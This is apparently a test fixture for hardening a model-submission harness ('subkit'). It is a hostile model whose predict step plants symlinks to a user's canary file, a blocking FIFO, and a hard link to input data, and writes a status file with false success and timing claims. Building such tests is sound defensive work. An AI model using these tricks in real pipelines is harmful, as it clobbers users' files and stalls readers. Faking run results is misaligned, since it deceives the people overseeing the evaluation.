"""Booby-trap the output folder for what subkit does after the run: labels.npy and the
shift samples' temp name as symbolic links to a file of the user's (subkit writes them
later), proba.npy as a FIFO (the report's reader would block forever), a hard link to the input, and
a status file that claims more than the truth."""

import json
import os

import numpy as np

from attack_common import attempt, targets

T = targets()
OUT = "/app/output"


class Model:
    def predict(self, X):
        for name in ("labels.npy", ".shift_samples.npz.tmp.npz", "scores.json", "run.json"):
            attempt("link " + name, lambda n=name: os.symlink(T["canary"], os.path.join(OUT, n)))
        attempt("fifo", lambda: os.mkfifo(os.path.join(OUT, "proba.npy")))
        attempt("hardlink", lambda: os.link("/app/input_data/X.npy", os.path.join(OUT, "x.npy")))
        attempt("claim", lambda: json.dump({"ok": True, "timings": {"total_s": 0.001}},
                                           open(os.path.join(OUT, "claims.json"), "w")))
        return np.zeros(len(X), dtype=np.int64)
